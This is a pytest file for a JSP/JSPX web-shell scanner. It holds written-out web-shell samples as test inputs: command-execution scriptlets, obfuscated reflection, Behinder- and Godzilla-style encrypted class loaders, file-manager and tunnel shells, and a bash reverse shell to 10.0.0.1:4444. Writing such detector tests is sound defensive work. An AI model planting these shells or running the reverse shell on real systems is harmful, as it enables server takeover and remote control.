"""The JSP/JSPX reader: one test per source, sink, decode and family shape, benign look-alikes that
must stay below the threshold, and hostile input that must end in bounded time. Every sample is
written here for the test."""

import time

import pytest

from agent.imagegate import webshell
from agent.imagegate.webshell import THRESHOLD, Limits
from agent.vocab import Severity


def scan(text, name="x.jsp", limits=None):
    return webshell.scan(name, text.encode() if isinstance(text, str) else text, limits)


def top(text, name="x.jsp"):
    hits = scan(text, name)
    assert hits, "no hit"
    return hits[0]


def shell(text, name="x.jsp"):
    h = top(text, name)
    assert h.confidence >= THRESHOLD, h
    assert h.language == "jsp"
    assert h.snippet and len(h.snippet) <= 240
    return h


def benign(text, name="x.jsp"):
    hits = scan(text, name)
    assert not webshell.is_shell(hits), hits


# --- sources reaching Runtime.exec ---------------------------------------------------------

@pytest.mark.parametrize("source", [
    'request.getParameter("c")',
    'request.getParameterValues("c")[0]',
    'request.getHeader("X-C")',
    'request.getQueryString()',
    'request.getCookies()[0].getValue()',
    'request.getParameterMap().get("c")[0]',
    'new java.io.BufferedReader(new java.io.InputStreamReader(request.getInputStream())).readLine()',
    'request.getReader().readLine()',
])
def test_each_source_reaches_exec(source):
    h = shell(f'<% String c = {source}; Process p = Runtime.getRuntime().exec(c); %>')
    assert h.rule == "jsp.request-to-exec" and h.severity == Severity.CRITICAL
    assert h.sink == "Runtime.exec" and "exec(c)" in h.snippet
    assert source.split("(")[0].split(".")[-1] in h.source or "request" in h.source


def test_expression_and_declaration_forms():
    h = shell('<%! String run(String c) throws Exception { return "" + Runtime.getRuntime().exec(c); } %>'
              '<%= run(request.getParameter("c")) %>')
    assert h.rule == "jsp.request-to-exec"


def test_processbuilder_and_start():
    h = shell('<% String[] a = {"/bin/sh", "-c", request.getParameter("c")};'
              ' ProcessBuilder pb = new ProcessBuilder(a); pb.redirectErrorStream(true); pb.start(); %>')
    assert h.sink in ("new ProcessBuilder", "ProcessBuilder.start")


def test_helper_method_taints_its_parameter():
    h = shell('<%! void go(String x) throws Exception { Runtime r = Runtime.getRuntime(); r.exec(x); } %>'
              '<% go(request.getParameter("cmd")); %>')
    assert h.source.startswith("request.getParameter")


# --- decoding and folding ------------------------------------------------------------------

def test_reflection_with_folded_class_and_method_names():
    h = shell('<% String a = "java.lang." + "Run" + "time";'
              ' Class k = Class.forName(a); Object rt = k.getMethod("getRun" + "time").invoke(null);'
              ' k.getMethod(new StringBuilder("cexe").reverse().toString(), String.class)'
              '.invoke(rt, request.getParameter("x")); %>')
    assert h.rule == "jsp.request-to-exec" and h.sink == "Method.invoke"
    assert '"exec"' in h.snippet  # the reversed name, folded


def test_java_unicode_escapes_apply_before_lexing():
    # \u0052untime is Runtime; \u0022 is a quote, as javac reads it
    h = shell('<% String c = request.getParameter(\\u0022c\\u0022); \\u0052untime.getRuntime().exec(c); %>')
    assert "Runtime.getRuntime().exec(c)" in h.snippet


def test_base64_and_byte_array_names():
    h = shell('<% Class k = Class.forName(new'
              ' String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU=")));'
              ' Object r = k.getMethod(new String(new byte[]{101,120,101,99}), String.class)'
              '.invoke(k.getMethod("getRuntime").invoke(null), request.getParameter("x")); %>')
    assert '"java.lang.Runtime"' in h.snippet or h.sink == "Method.invoke"


def test_sun_base64_decoder_and_char_casts():
    h = shell('<% String m = "" + (char) 101 + (char) 120 + (char) 101 + (char) 99;'
              ' Object o = Runtime.class.getMethod("getRuntime").invoke(null);'
              ' Runtime.class.getMethod(m, String.class).invoke(o, new String(new sun.misc.BASE64Decoder()'
              '.decodeBuffer(request.getParameter("b")))); %>')
    assert h.rule == "jsp.request-to-exec"


def test_replace_on_constants():
    h = shell('<% Class.forName("jXava.lanXg.RuntXime".replace("X", ""));'
              ' java.lang.Runtime.getRuntime().exec(request.getParameter("c")); %>')
    assert h.rule == "jsp.request-to-exec"


# --- sinks beyond exec -----------------------------------------------------------------------

def test_script_engine_eval():
    h = shell('<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");'
              ' e.eval(request.getParameter("code")); %>')
    assert h.rule == "jsp.request-to-eval" and h.sink == "ScriptEngine.eval"


def test_el_injection_through_value_expression():
    h = shell('<% javax.el.ExpressionFactory f = javax.el.ExpressionFactory.newInstance();'
              ' String e = "${" + request.getParameter("e") + "}";'
              ' f.createValueExpression(ctx, e, Object.class).getValue(ctx); %>')
    assert h.rule == "jsp.request-to-eval"


def test_el_in_template_reaching_runtime_by_reflection():
    h = shell('<html>${"".getClass().forName("java.lang.Runtime").getMethod("exec", "".getClass())'
              '.invoke("".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null),'
              ' param.cmd)}</html>')
    assert h.rule.startswith("jsp.el.")


def test_java_beans_statement():
    h = shell('<% String c = request.getParameter("c");'
              ' new java.beans.Statement(Runtime.getRuntime(), "exec", new Object[]{c}).execute(); %>')
    assert h.sink == "java.beans.Statement"


def test_jndi_injection():
    h = shell('<% com.sun.rowset.JdbcRowSetImpl j = new com.sun.rowset.JdbcRowSetImpl();'
              ' j.setDataSourceName(request.getParameter("u")); j.setAutoCommit(true); %>')
    assert h.rule == "jsp.request-to-jndi" and h.severity == Severity.CRITICAL


def test_process_stdin_fed_by_request():
    h = shell('<% Process p = Runtime.getRuntime().exec("/bin/sh");'
              ' java.io.PrintWriter w = new java.io.PrintWriter(p.getOutputStream());'
              ' w.println(request.getParameter("line")); w.flush(); %>')
    assert h.sink == "process stdin"


def test_constant_reverse_shell():
    h = shell('<% Runtime.getRuntime().exec(new String[]{"/bin/bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"});'
              ' %>')
    assert h.rule == "jsp.reverse-shell"


def test_file_upload_and_manager():
    h = shell('<% String p = request.getParameter("path");'
              ' java.io.FileOutputStream o = new java.io.FileOutputStream(p);'
              ' o.write(request.getParameter("data").getBytes()); o.close(); %>')
    assert h.rule == "jsp.request-to-file-write" and h.severity == Severity.HIGH
    h = shell('<% java.io.File d = new java.io.File(request.getParameter("dir"));'
              ' for (java.io.File f : d.listFiles()) { out.println(f.getName()); }'
              ' if (request.getParameter("del") != null) new java.io.File(request.getParameter("del")).delete();'
              ' new java.io.File(request.getParameter("a")).renameTo(new java.io.File(request.getParameter("b"))); %>')
    assert h.rule == "jsp.file-manager" and h.severity == Severity.HIGH


def test_socket_tunnel():
    h = shell('<% String host = request.getHeader("X-TARGET"); int port ='
              ' Integer.parseInt(request.getHeader("X-PORT"));'
              ' java.nio.channels.SocketChannel s = java.nio.channels.SocketChannel.open();'
              ' s.connect(new java.net.InetSocketAddress(host, port)); session.setAttribute("s", s); %>')
    assert h.rule == "jsp.request-to-socket"


def test_page_writing_a_web_shell():
    h = shell('<% java.io.FileWriter w = new java.io.FileWriter(application.getRealPath("/") + "a.jsp");'
              ' w.write("<% Runtime.getRuntime().exec(request.getParameter(\\"c\\")); %\\>"); w.close(); %>')
    assert h.rule in ("jsp.writes-web-shell", "jsp.request-to-exec")


# --- families --------------------------------------------------------------------------------

BEHINDER = ('<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{'
            'U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%'
            'if (request.getMethod().equals("POST")){String k="0123456789abcdef";session.putValue("u",k);'
            'Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));'
            'new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer('
            'request.getReader().readLine()))).newInstance().equals(pageContext);}%>')


def test_behinder_loader():
    h = shell(BEHINDER)
    assert h.rule == "jsp.request-to-classload" and h.family == "behinder"
    assert h.severity == Severity.CRITICAL and "request.getReader()" in h.source


def test_godzilla_loader():
    h = shell('<%! String xc="3c6e0b8a9c15224a"; String pass="pass";'
              ' class X extends ClassLoader{public X(ClassLoader z){super(z);}'
              ' public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);} }'
              ' public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");'
              ' c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s);'
              ' }catch (Exception e){return null;} } %>'
              '<% byte[] data = java.util.Base64.getDecoder().decode(request.getParameter(pass)); data ='
              ' x(data, false);'
              ' if (session.getAttribute("payload") == null) { session.setAttribute("payload",'
              ' new X(this.getClass().getClassLoader()).Q(data)); } %>')
    assert h.family == "godzilla" and h.confidence >= 0.85


def test_jspx_scriptlet_with_entities():
    h = shell('<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>'
              'String c = request.getParameter(&quot;c&quot;); if (c != null &amp;&amp; c.length() &gt; 0)'
              ' Runtime.getRuntime().exec(c);</jsp:scriptlet></jsp:root>', name="x.jspx")
    assert h.rule == "jsp.request-to-exec"


def test_servlet_class_method_by_method():
    src = ('import javax.servlet.http.*;\npublic class C extends HttpServlet {\n'
           '  public void doGet(HttpServletRequest req, HttpServletResponse res) throws java.io.IOException {\n'
           '    run(req.getParameter("cmd"));\n  }\n'
           '  private void run(String cmd) throws java.io.IOException { Runtime.getRuntime().exec(cmd); }\n}\n')
    from agent.imagegate.webshell import common, jsp
    hits = []
    jsp.scan(src.encode(), "jsp", common.Budget(common.Limits()), hits)
    assert webshell.is_shell(hits) and hits[0].rule == "jsp.request-to-exec"


# --- benign look-alikes ----------------------------------------------------------------------

def test_constant_admin_command_is_benign():
    benign('<% String name = request.getParameter("name");'
           ' if (name != null) { Process p = Runtime.getRuntime().exec("/usr/bin/uptime"); }'
           ' out.println("Hello " + name); %>')


def test_servlet_reading_a_parameter_into_a_query_is_benign():
    benign('<% String id = request.getParameter("id");'
           ' java.sql.Connection c = ds.getConnection();'
           ' java.sql.PreparedStatement ps = c.prepareStatement("select * from t where id = ?");'
           ' ps.setString(1, id); java.sql.ResultSet rs = ps.executeQuery(); %>')


def test_tomcat_example_style_pages_are_benign():
    benign('<%@ page session="false" %><html><body>'
           '<% java.util.Enumeration e = request.getHeaderNames(); while (e.hasMoreElements()) {'
           ' String n = (String) e.nextElement(); %><%= n %>: <%= request.getHeader(n) %><br><% } %>'
           '${param.name} ${header["user-agent"]}</body></html>')
    benign('<jsp:useBean id="clock" class="dates.JspCalendar" /><%= clock.getDayOfMonth() %>'
           '<% String s = request.getParameter("s"); out.print(s == null ? "" : s.toUpperCase()); %>')


def test_servlet_method_named_params_is_not_an_el_source():
    from agent.imagegate.webshell import common, jsp
    src = ('public class Exec { void run(String[] paramValues) throws Exception {\n'
           '  String v = paramValues[0]; String[] cmd = v.split(" ");\n'
           '  Runtime.getRuntime().exec(cmd); } }\n')
    hits = []
    jsp.scan(src.encode(), "jsp", common.Budget(common.Limits()), hits)
    assert not webshell.is_shell(hits), hits


# --- hostile input ---------------------------------------------------------------------------

def _bounded(data, name, seconds=6.0):
    t = time.process_time()
    hits = webshell.scan(name, data, Limits(max_seconds=2.0))
    assert time.process_time() - t < seconds
    return hits


def test_hostile_inputs_are_bounded():
    _bounded(b"<% " + b"(" * 200000 + b" %>", "x.jsp")
    _bounded(b'<% String s = "' + b"A" * (2 * 1024 * 1024 - 40) + b'"; %>', "x.jsp")
    _bounded(bytes(range(256)) * 4000, "x.jsp")
    _bounded(b'<% String s = "never ends' + b" x" * 50000, "x.jsp")
    _bounded(b"<%" * 100000, "x.jspx")
    _bounded(b"<% a = b + " * 30000, "x.jsp")
    _bounded(b'<% String s = "a"' + b' + "a"' * 100000 + b"; %>", "x.jsp")


def test_websocket_message_handler():
    h = shell('<%! public static class E extends javax.websocket.Endpoint implements'
              ' javax.websocket.MessageHandler.Whole<String> { public void onMessage(String m) {'
              ' try { Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", m}); } catch (Exception e) {} } } %>')
    assert h.source == "WebSocket message"


def test_broken_triple_quote_does_not_swallow_the_page():
    h = shell('<%! String q(int i) { if (i == 34) return """; return ""; } %>'
              '<% Runtime.getRuntime().exec(request.getParameter("c")); %>')
    assert h.rule == "jsp.request-to-exec"


def test_stylesheet_from_the_request():
    h = shell('<% javax.xml.transform.TransformerFactory f = javax.xml.transform.TransformerFactory.newInstance();'
              ' f.newTransformer(new javax.xml.transform.stream.StreamSource(request.getInputStream()))'
              '.transform(src, new javax.xml.transform.stream.StreamResult(out)); %>')
    assert h.sink == "XSLT from the request"


def test_payload_classes():
    from agent.imagegate.webshell import common, jsp
    for src in ('public class E { public E(String cmd) throws Exception {'
                ' Runtime.getRuntime().exec(cmd); } }\n',
                'public class D implements java.io.Serializable {\n'
                ' private void readObject(java.io.ObjectInputStream in)'
                ' throws Exception { in.defaultReadObject(); Runtime.getRuntime().exec("id"); } }\n'):
        hits = []
        jsp.scan(src.encode(), "jsp", common.Budget(common.Limits()), hits)
        assert webshell.is_shell(hits) and hits[0].rule == "jsp.payload-class", hits
    hits = []
    jsp.scan(b'public class S { static { try { Runtime.getRuntime().exec("touch /tmp/x"); }'
             b' catch (Exception e) {} } }\n', "jsp", common.Budget(common.Limits()), hits)
    assert webshell.is_shell(hits) and hits[0].rule == "jsp.payload-class"
    hits = []
    jsp.scan(b'public class L { void run(String c) throws Exception { Runtime.getRuntime().exec(c); } }\n', "jsp",
             common.Budget(common.Limits()), hits)
    assert not webshell.is_shell(hits)


def test_reverse_shell_class_reads_commands_from_its_socket():
    from agent.imagegate.webshell import common, jsp
    src = (b'public class R { public static void go(String h, int p) throws Exception {\n'
           b' java.net.Socket s = new java.net.Socket(h, p); java.io.InputStream in = s.getInputStream();\n'
           b' byte[] b = new byte[1024]; int n = in.read(b);\n'
           b' Runtime.getRuntime().exec(new String(b, 0, n)); } }\n')
    hits = []
    jsp.scan(src, "jsp", common.Budget(common.Limits()), hits)
    assert webshell.is_shell(hits) and hits[0].rule == "jsp.request-to-exec"
